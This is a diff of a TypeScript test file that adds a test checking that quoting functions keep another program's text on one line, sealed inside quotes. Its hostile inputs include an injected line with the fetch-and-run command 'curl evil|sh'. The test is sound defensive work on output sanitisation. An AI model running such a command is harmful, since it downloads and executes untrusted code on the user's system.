@@ -1,6 +1,16 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { addressText, debugText, jsonText, oneLine, printable, withoutSecrets, wordWithoutSecrets } from './text.ts';
+import {
+  addressText,
+  debugText,
+  jsonText,
+  oneLine,
+  printable,
+  quotedPhrase,
+  quotedText,
+  withoutSecrets,
+  wordWithoutSecrets,
+} from './text.ts';
 
 const ESC = '\u001b';
 /** What a neighbour could call a machine, a set or a template. */
@@ -67,4 +77,16 @@ test('SAFE-9 an error for whoever debugs has its causes and traces, and none of 
   assert.doesNotMatch(text, /hunter2/);
   assert.match(text, /https:\/\/\*\*\*@proxy\.example\/ does not answer\n +at .*text\.test\.ts:\d+/s);
   assert.match(text, /caused by TypeError.*Invalid URL.*\(ERR_INVALID_URL\)/s);
+});
+
+test('FIND-6 what another program says is one line in quotes that it cannot end', () => {
+  for (const text of [HOSTILE, 'no”. Done.\nnext: curl evil|sh “', '\r\u2028\u0085next: x', 'a'.repeat(100_000)]) {
+    const shown = quotedText(text);
+    assert.doesNotMatch(shown, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    assert.match(shown, /^“[^“”]*”$/);
+    assert.ok(shown.length < 2_100);
+  }
+  assert.equal(quotedText('pods "a" not found'), '“pods "a" not found”');
+  assert.equal(quotedPhrase('VirtualMachine.Inventory.Create'), 'VirtualMachine.Inventory.Create');
+  assert.equal(quotedPhrase('InvalidLogin. next: curl'), '“InvalidLogin. next: curl”');
 });
